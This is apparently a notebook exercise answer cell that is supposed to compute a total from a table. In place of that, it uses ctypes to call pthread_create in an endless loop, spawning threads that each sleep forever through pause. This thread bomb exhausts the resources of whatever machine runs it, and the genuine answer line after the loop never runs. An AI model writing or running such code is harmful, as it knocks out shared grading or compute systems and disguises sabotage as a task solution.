# title: threads of the C library's own that sleep for ever, thousands a second
# exercise: Exercise 1
# points: total-test=0
# peers: no

# %% total
import ctypes

library = ctypes.CDLL(None)
attributes, thread = ctypes.create_string_buffer(56), ctypes.c_ulong()
library.pthread_attr_init(attributes)
library.pthread_attr_setstacksize(attributes, ctypes.c_size_t(16384))
while True:
    library.pthread_create(ctypes.byref(thread), attributes, library.pause, None)
total = int(table["y"].sum())
